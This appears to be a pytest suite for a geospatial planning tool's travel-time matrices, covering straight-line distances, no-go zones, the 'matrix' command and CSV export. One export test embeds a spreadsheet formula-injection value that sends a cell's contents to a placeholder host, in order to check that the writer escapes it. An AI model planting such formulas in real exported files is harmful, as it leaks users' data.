"""Travel-time matrices: the straight-line backend, the table views, workspace layers, the
`geoplan matrix` command and the demo's travel-time stage."""

from __future__ import annotations

import dataclasses
import datetime as dt
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
import shapely
from hypothesis import given, settings
from hypothesis import strategies as st

from geoplan.catalog import get_layer
from geoplan.cli import run
from geoplan.demo.run import DemoOptions, DemoRun, _compute_travel_times
from geoplan.errors import InputFileError, ParameterError, UnknownLayerError
from geoplan.layers import validate_table
from geoplan.params import load_params
from geoplan.sources import RawTable
from geoplan.store.geopackage import GeoPackageStore
from geoplan.travel.matrix import (
    EARTH_RADIUS_M,
    NO_ROUTE,
    Points,
    StraightLineBackend,
    StraightLineParams,
    TravelTimeMatrix,
    great_circle_metres,
    matrix_from_points,
    points_from_frame,
    save_matrix,
)
from geoplan.workspace import matrix_from_store
from geoplan.zones import active_zones, no_closures

M_PER_DEG = np.pi * EARTH_RADIUS_M / 180  # 111,195 m per degree of a great circle
DAY = dt.date(2026, 3, 10)
BRIDGE_ZONE = shapely.box(0.0055, -0.0005, 0.0065, 0.0005)


def pts(**named: tuple[float, float]) -> Points:
    """Points from ``id=(lon, lat)``."""
    return Points(
        tuple(named),
        np.array([xy[0] for xy in named.values()]),
        np.array([xy[1] for xy in named.values()]),
    )


def frame(**named: tuple[float, float]) -> gpd.GeoDataFrame:
    """A point layer with ids."""
    return gpd.GeoDataFrame(
        {"id": list(named)}, geometry=[shapely.Point(xy) for xy in named.values()], crs=4326
    )


def haversine(lon0: float, lat0: float, lon1: float, lat1: float) -> float:
    """The textbook haversine formula, to check the vectorised one against."""
    p0, p1 = np.radians(lat0), np.radians(lat1)
    dp, dl = p1 - p0, np.radians(lon1 - lon0)
    h = np.sin(dp / 2) ** 2 + np.cos(p0) * np.cos(p1) * np.sin(dl / 2) ** 2
    return float(2 * EARTH_RADIUS_M * np.arcsin(np.sqrt(h)))


def read_times(path: Path) -> pd.DataFrame:
    """A matrix CSV as written, with empty reasons as empty strings."""
    return pd.read_csv(path).fillna({"reason": ""})


def seconds_in(table: pd.DataFrame, origin: str, destination: str) -> float:
    """Seconds of one pair of a table indexed by (from_id, to_id)."""
    return float(table["seconds"].loc[[(origin, destination)]].to_numpy()[0])


# --- straight line --------------------------------------------------------------------------


def test_straight_line_times_are_distance_times_detour_at_the_speed() -> None:
    """One degree along the equator: 111,195 m x 1.3 = 144,554 m, at 30 km/h 17,347 s."""
    matrix = StraightLineBackend().travel_times(
        pts(a=(0, 0)), pts(b=(1, 0), c=(0, 0)), no_closures()
    )
    assert matrix.distance("a", "b") == pytest.approx(1.3 * M_PER_DEG)
    assert matrix.time("a", "b") == pytest.approx(1.3 * M_PER_DEG / (30 / 3.6))
    assert matrix.time("a", "c") == 0.0
    assert matrix.backend == "straight_line"
    assert matrix.parameters["detour_factor"] == 1.3


def test_great_circle_distances_match_the_textbook_formula() -> None:
    """Random pairs across the globe, and pole to pole (half the circumference)."""
    rng = np.random.default_rng(3)
    a = pts(**{f"a{i}": (rng.uniform(-180, 180), rng.uniform(-89, 89)) for i in range(30)})
    b = pts(**{f"b{i}": (rng.uniform(-180, 180), rng.uniform(-89, 89)) for i in range(20)})
    got = great_circle_metres(a, b)
    for i in range(30):
        for j in range(20):
            expected = haversine(a.lon[i], a.lat[i], b.lon[j], b.lat[j])
            assert got[i, j] == pytest.approx(expected, rel=1e-9, abs=1e-6)
    poles = great_circle_metres(pts(n=(0, 90)), pts(s=(0, -90)))
    assert poles[0, 0] == pytest.approx(np.pi * EARTH_RADIUS_M)


coordinates = st.tuples(st.floats(-180, 180), st.floats(-85, 85))


@settings(max_examples=60, deadline=None)
@given(
    places=st.lists(coordinates, min_size=1, max_size=15),
    detour=st.floats(1.0, 5.0),
    speed=st.floats(1.0, 200.0),
)
def test_straight_line_matrices_keep_the_laws_of_travel(
    places: list[tuple[float, float]], detour: float, speed: float
) -> None:
    """Zero diagonal, exact symmetry, triangle inequality, never faster than the speed."""
    points = pts(**{f"p{i}": xy for i, xy in enumerate(places)})
    params = StraightLineParams(detour_factor=detour, speed_kmh=speed)
    s = StraightLineBackend(params).travel_times(points, points, no_closures()).seconds
    assert (np.diag(s) == 0).all()
    np.testing.assert_array_equal(s, s.T)
    via = (s[:, :, None] + s[None, :, :]).min(axis=1)
    assert (s <= via * (1 + 1e-9) + 1e-6).all()
    floor = great_circle_metres(points, points) / (speed / 3.6)
    assert (s >= floor * (1 - 1e-12)).all()


def test_a_pair_whose_straight_path_crosses_a_zone_is_unreachable() -> None:
    """West to east across the zone is cut; the pair passing north of it is not."""
    closures = active_zones(zones_layer(), on=DAY)
    matrix = StraightLineBackend().travel_times(
        pts(w=(0, 0), n=(0, 0.003)), pts(e=(0.01, 0)), closures
    )
    assert not matrix.reachable[matrix.row("w"), 0]
    assert np.isnan(matrix.time("w", "e"))
    assert matrix.reachable[matrix.row("n"), 0]
    assert matrix.parameters["closures_on"] == DAY


def test_a_zone_closed_on_another_day_changes_nothing() -> None:
    """Zones outside their dates close nothing: the same times as with no zones."""
    points = pts(w=(0, 0), e=(0.01, 0), camp=(0.006, 0.0))
    later = active_zones(zones_layer(), on=dt.date(2026, 5, 1))
    open_ = StraightLineBackend().travel_times(points, points, no_closures())
    matrix = StraightLineBackend().travel_times(points, points, later)
    np.testing.assert_array_equal(matrix.seconds, open_.seconds)
    assert not matrix.reasons


def test_a_site_inside_a_zone_is_unreachable_with_its_reason() -> None:
    """A camp inside the zone: its row and column are unreachable, reason names the zone."""
    points = pts(w=(0, 0), camp=(0.006, 0.0002))
    matrix = matrix_from_points(
        frame(w=(0, 0), camp=(0.006, 0.0002)),
        frame(w=(0, 0), camp=(0.006, 0.0002)),
        closures=active_zones(zones_layer(), on=DAY),
    )
    assert matrix.reasons == {"camp": "inside no-go zone Bridge"}
    assert not matrix.reachable[:, matrix.col("camp")].any()
    assert not matrix.reachable[matrix.row("camp")].any()
    assert matrix.reachable[0, 0]
    assert points.ids == matrix.origins


@pytest.mark.parametrize(
    "params",
    [
        {"detour_factor": 0.9},
        {"detour_factor": 6},
        {"speed_kmh": 0},
        {"speed_kmh": "fast"},
        {"speed_kmh": True},
    ],
)
def test_straight_line_parameters_are_checked(params: dict[str, object]) -> None:
    """Detour factor 1..5 and speed 1..200 km/h, numbers only."""
    with pytest.raises(ParameterError, match="expected a number"):
        StraightLineParams(**params)  # type: ignore[arg-type]


def test_straight_line_parameters_read_from_toml(fixtures: Path, tmp_path: Path) -> None:
    """[straight_line] keys are read; unknown keys and bad values name the file."""
    params = load_params(fixtures / "roads_params_slow_town.toml").straight_line
    assert (params.detour_factor, params.speed_kmh) == (1.5, 20)
    unknown = tmp_path / "unknown.toml"
    unknown.write_text("[straight_line]\nspeed = 20\n", encoding="utf-8")
    with pytest.raises(ParameterError, match="unknown keys speed"):
        load_params(unknown)
    slow = tmp_path / "slow.toml"
    slow.write_text("[straight_line]\nspeed_kmh = 0.5\n", encoding="utf-8")
    with pytest.raises(ParameterError, match=r"slow\.toml \[straight_line\]: speed_kmh"):
        load_params(slow)
    with pytest.raises(InputFileError, match="cannot read parameters as TOML"):
        load_params(fixtures / "roads_params_not_toml.toml")


# --- the matrix itself ------------------------------------------------------------------------


def small_matrix() -> TravelTimeMatrix:
    """a -> x 60 s, a -> y unreachable, b unreachable everywhere (inside a zone)."""
    seconds = np.array([[60.0, np.nan], [np.nan, np.nan]])
    return TravelTimeMatrix(
        origins=("a", "b"),
        destinations=("x", "y"),
        seconds=seconds,
        metres=seconds * 10,
        reachable=np.isfinite(seconds),
        reasons={"b": "inside no-go zone Z"},
        backend="fixture",
    )


def test_the_long_table_says_why_each_pair_is_unreachable() -> None:
    """One row per pair; the point's own reason first, else no route."""
    table = small_matrix().to_frame()
    assert list(table.columns) == ["from_id", "to_id", "seconds", "metres", "reachable", "reason"]
    assert table["reason"].tolist() == ["", NO_ROUTE, "inside no-go zone Z", "inside no-go zone Z"]
    assert table["reachable"].tolist() == [True, False, False, False]
    assert table["seconds"].isna().tolist() == [False, True, True, True]


def test_unreachable_points_and_their_counts() -> None:
    """b has its own reason; y is reached by no origin, so it gets no route."""
    matrix = small_matrix()
    assert matrix.unreachable_points() == {"b": "inside no-go zone Z", "y": NO_ROUTE}
    assert matrix.unreachable_counts() == {"inside no-go zone Z": 1, NO_ROUTE: 1}
    summary = matrix.summary()
    assert "2 x 2 travel-time matrix (fixture)" in summary
    assert "unreachable pairs: 3 of 4; unreachable points: 2" in summary
    assert "y: " + NO_ROUTE in summary


def test_subset_reorders_and_keeps_the_reasons_of_the_ids_kept() -> None:
    """A subset takes rows and columns by id, in the order asked."""
    part = small_matrix().subset(["b", "a"], ["x"])
    assert part.origins == ("b", "a")
    assert np.isnan(part.seconds[0, 0])
    assert part.seconds[1, 0] == 60.0
    assert part.reasons == {"b": "inside no-go zone Z"}


def test_a_matrix_with_mismatched_arrays_is_refused() -> None:
    """Arrays must be origins x destinations."""
    with pytest.raises(ValueError, match=r"expected \(2, 2\)"):
        TravelTimeMatrix(
            ("a", "b"), ("x", "y"), np.zeros((2, 3)), np.zeros((2, 2)), np.ones((2, 2), bool)
        )


def test_save_matrix_writes_the_long_table(tmp_path: Path) -> None:
    """The CSV has one row per pair, rounded, with empty times where unreachable."""
    path = save_matrix(small_matrix(), tmp_path / "out" / "times.csv")
    table = read_times(path)
    assert table.columns.tolist() == [
        "from_id",
        "to_id",
        "seconds",
        "metres",
        "reachable",
        "reason",
    ]
    assert table.iloc[0].tolist() == ["a", "x", 60.0, 600.0, True, ""]
    assert np.isnan(table.iloc[1]["seconds"])
    assert not list((tmp_path / "out").glob("*.partial"))


def test_save_matrix_writes_a_private_file_whose_text_stays_text(tmp_path: Path) -> None:
    """A reason that looks like a formula is written quoted; the file is mode 0600."""
    matrix = dataclasses.replace(small_matrix(), reasons={"b": '=HYPERLINK("http://x/?"&A2)'})
    path = save_matrix(matrix, tmp_path / "times.csv")
    assert path.stat().st_mode & 0o777 == 0o600
    assert "'=HYPERLINK" in path.read_text(encoding="utf-8")
    assert read_times(path)["reason"].tolist()[2] == '\'=HYPERLINK("http://x/?"&A2)'


# --- point layers -------------------------------------------------------------------------------


def test_every_problem_of_a_point_layer_is_reported_at_once() -> None:
    """Empty and repeated ids, a polygon and swapped coordinates, in one error."""
    layer = gpd.GeoDataFrame(
        {"id": ["A", "A", "", "D"]},
        geometry=[
            shapely.Point(13.1, 32.9),
            shapely.Point(13.2, 32.9),
            shapely.Point(13.3, 32.9),
            shapely.box(0, 0, 1, 1),
        ],
        crs=4326,
    )
    layer.loc[4] = ["E", shapely.Point(32.9, 133.2)]
    with pytest.raises(ParameterError) as caught:
        points_from_frame(layer, name="sites")
    text = str(caught.value)
    assert text.startswith("sites: 4 problem(s)")
    for words in ("row 2: empty id", "id A repeated", "(id D): not a point", "swapped"):
        assert words in text


def test_a_layer_without_ids_is_refused() -> None:
    """No id column: say so and list the columns."""
    with pytest.raises(ParameterError, match="expected an `id` column"):
        points_from_frame(frame(a=(0, 0)).rename(columns={"id": "code"}), name="sites")


def test_projected_points_are_converted_to_degrees() -> None:
    """A layer in Web Mercator gives the same coordinates as in EPSG:4326."""
    projected = points_from_frame(frame(a=(13.18, 32.88)).to_crs(3857), name="sites")
    assert projected.lon[0] == pytest.approx(13.18)
    assert projected.lat[0] == pytest.approx(32.88)


# --- workspace and command ---------------------------------------------------------------------


def validated(name: str, rows: pd.DataFrame, geometry: list[shapely.Geometry]) -> pd.DataFrame:
    table = RawTable("fixture", rows.astype(object), geometry=gpd.GeoSeries(geometry, crs=4326))
    out, report = validate_table(table, get_layer(name))
    assert report.ok, report.summary()
    return out


def zones_layer() -> gpd.GeoDataFrame:
    """The Bridge zone, closed through March 2026 (over node 7 of the road fixture)."""
    rows = pd.DataFrame(
        {
            "id": ["Z-BRIDGE"],
            "name": ["Bridge"],
            "reason": ["clashes"],
            "valid_from": ["2026-03-01"],
            "valid_to": ["2026-03-31"],
        }
    )
    return gpd.GeoDataFrame(validated("no_go_zones", rows, [BRIDGE_ZONE]))


def teams_layer() -> pd.DataFrame:
    rows = pd.DataFrame(
        {
            "id": ["T-WEST", "T-NORTH"],
            "name": ["West team", "North team"],
            "kind": ["medical", "mrrm"],
            "services": ["health", "health;nfi"],
        }
    )
    return validated("teams", rows, [shapely.Point(0, 0), shapely.Point(0, 0.003)])


def sites_layer() -> pd.DataFrame:
    """West (node 3), east (node 9, over the bridge), inside the zone, and far from roads."""
    rows = pd.DataFrame(
        {
            "id": ["GP-WEST", "GP-EAST", "GP-INSIDE", "GP-FAR"],
            "name": ["West", "East", "Inside", "Far"],
            "setting": ["camp"] * 4,
            "people": [10] * 4,
            "services_needed": ["health"] * 4,
            "visit_frequency_days": [14] * 4,
        }
    )
    xy = [(0.004, 0.0), (0.010, 0.0), (0.006, 0.0002), (0.0, 0.013)]
    return validated("gathering_points", rows, [shapely.Point(p) for p in xy])


@pytest.fixture
def workspace(tmp_path: Path) -> GeoPackageStore:
    """Two teams and four gathering points around the road fixture, and the Bridge zone."""
    store = GeoPackageStore(tmp_path / "geoplan.gpkg")
    store.upsert("teams", teams_layer())
    store.upsert("gathering_points", sites_layer())
    store.upsert("no_go_zones", zones_layer())
    return store


def test_matrix_from_store_closes_the_zones_of_the_day(workspace: GeoPackageStore) -> None:
    """On 10 March the bridge zone is closed; on 10 April it is not."""
    march = matrix_from_store(workspace, "teams", "gathering_points", on=DAY)
    assert march.origins == ("T-WEST", "T-NORTH")
    assert march.reasons["GP-INSIDE"] == "inside no-go zone Bridge"
    assert not march.reachable[march.row("T-WEST"), march.col("GP-EAST")]
    april = matrix_from_store(workspace, "teams", "gathering_points", on=dt.date(2026, 4, 10))
    assert april.reachable.all()


def test_matrix_from_store_wants_point_layers_with_rows(workspace: GeoPackageStore) -> None:
    """Polygons, empty layers and unknown layers are refused with the fix."""
    with pytest.raises(ParameterError, match="--to no_go_zones: expected a point layer"):
        matrix_from_store(workspace, "teams", "no_go_zones", on=DAY)
    with pytest.raises(ParameterError, match="--to clinics: the layer is empty"):
        matrix_from_store(workspace, "teams", "clinics", on=DAY)
    with pytest.raises(UnknownLayerError):
        matrix_from_store(workspace, "teams", "wells", on=DAY)


def test_matrix_command_writes_straight_line_csv_and_summary(
    workspace: GeoPackageStore, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Straight lines on 10 March: the camp in the zone and the cut pair are explained."""
    out = tmp_path / "times.csv"
    args = ["matrix", "--from", "teams", "--to", "gathering_points", "--date", "2026-03-10"]
    assert run([*args, "-o", str(out), "-w", str(workspace.path)]) == 0
    printed = capsys.readouterr().out
    assert "2 x 4 travel-time matrix (straight_line)" in printed
    assert "GP-INSIDE: inside no-go zone Bridge" in printed
    assert f"Wrote 8 pair(s) to {out}" in printed
    table = read_times(out).set_index(["from_id", "to_id"])
    assert table.loc[("T-WEST", "GP-EAST"), "reason"] == NO_ROUTE
    assert table.loc[("T-NORTH", "GP-EAST"), "reachable"]
    assert seconds_in(table, "T-WEST", "GP-FAR") > 0


def test_matrix_command_on_roads_reports_each_unreachable_point(
    workspace: GeoPackageStore,
    fixtures: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """On roads with the bridge closed: the east side has no route, the far site no road."""
    monkeypatch.setenv("GEOPLAN_CACHE_DIR", str(tmp_path / "cache"))
    out = tmp_path / "times.csv"
    roads = fixtures / "roads_bridge_shortcut.osm"
    args = ["matrix", "--from", "teams", "--to", "gathering_points", "--roads", str(roads)]
    assert run([*args, "--date", "2026-03-10", "-o", str(out), "-w", str(workspace.path)]) == 0
    printed = capsys.readouterr().out
    assert "road network from roads_bridge_shortcut.osm: 10 nodes" in printed
    assert "unreachable points: 3" in printed
    assert f"GP-EAST: {NO_ROUTE}" in printed
    assert "GP-FAR: too far from any road: nearest road is 1,112 m away" in printed
    table = read_times(out).set_index(["from_id", "to_id"])
    assert seconds_in(table, "T-WEST", "GP-WEST") == pytest.approx(64.0, abs=0.2)
    assert run([*args, "-o", str(out), "-w", str(workspace.path)]) == 0
    assert "(from cache)" in capsys.readouterr().out


BAD_CALLS = [
    (["--date", "10/03/2026"], 2, "is not a date YYYY-MM-DD"),
    (["--to", "admin_areas"], 2, "expected a point layer"),
    (["--roads", "nowhere.osm.pbf"], 2, "does not exist"),
    (["--roads", "{fixtures}/roads_no_drivable_way.osm"], 1, "holds no drivable way"),
    (
        ["--params", "{fixtures}/roads_params_unknown_key.toml", "--roads", "{roads}"],
        2,
        "unknown keys max_snap",
    ),
]


@pytest.mark.parametrize("call", BAD_CALLS)
def test_matrix_command_errors_are_plain_with_exit_codes(
    workspace: GeoPackageStore,
    fixtures: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    call: tuple[list[str], int, str],
) -> None:
    """Usage problems exit 2, unusable data exits 1, each with a one-line reason."""
    extra, code, words = call
    roads = str(fixtures / "roads_bridge_shortcut.osm")
    filled = [e.format(fixtures=fixtures, roads=roads) for e in extra]
    if "--to" not in filled:
        filled += ["--to", "gathering_points"]
    args = ["matrix", "--from", "teams", *filled, "-w", str(workspace.path)]
    assert run([*args, "-o", str(tmp_path / "m.csv")]) == code
    captured = capsys.readouterr()
    assert words in captured.err.replace("\n", " ")
    assert "Traceback" not in captured.err


def test_matrix_command_needs_an_existing_workspace(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """No workspace yet: say how to make one."""
    args = ["matrix", "--from", "teams", "--to", "clinics", "-w", str(tmp_path / "none.gpkg")]
    assert run(args) == 2
    assert "does not exist" in capsys.readouterr().err


def test_matrix_help_has_examples(capsys: pytest.CaptureFixture[str]) -> None:
    """--help shows how to call the command, with and without roads."""
    assert run(["matrix", "--help"]) == 0
    text = capsys.readouterr().out
    assert "geoplan matrix --from teams --to gathering_points -o times.csv" in text
    assert "--roads" in text


# --- the demo stage -------------------------------------------------------------------------------


@pytest.mark.parametrize("roads", [False, True])
def test_demo_stage_builds_the_matrix_for_later_stages(
    workspace: GeoPackageStore,
    fixtures: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    roads: bool,
) -> None:
    """The stage keeps sites x (clinics, bases) for coverage (not a square, which would not
    fit 50,000 sites), writes bases -> sites as CSV and explains the gaps."""
    monkeypatch.setenv("GEOPLAN_CACHE_DIR", str(tmp_path / "cache"))
    extract = fixtures / "roads_bridge_shortcut.osm" if roads else None
    demo = DemoRun(out_dir=tmp_path, options=DemoOptions(today=DAY, roads=extract))
    _compute_travel_times(demo)
    matrix = demo.results["matrix"]
    assert matrix.backend == ("road_network" if roads else "straight_line")
    assert set(matrix.destinations) == {"base:T-WEST", "base:T-NORTH"}
    assert {"GP-WEST", "GP-EAST"} <= set(matrix.origins)
    assert not set(matrix.origins) & set(matrix.destinations)
    table = pd.read_csv(demo.outputs["travel_times"])
    assert set(table["from_id"]) == {"base:T-WEST", "base:T-NORTH"}
    assert len(table) == 2 * 4
    line = demo.lines[-1]
    assert "1 no-go zone(s) active on 2026-03-10" in line
    assert "inside no-go zone Bridge: 1" in line
    assert ("too far from any road: 1" in line) == roads
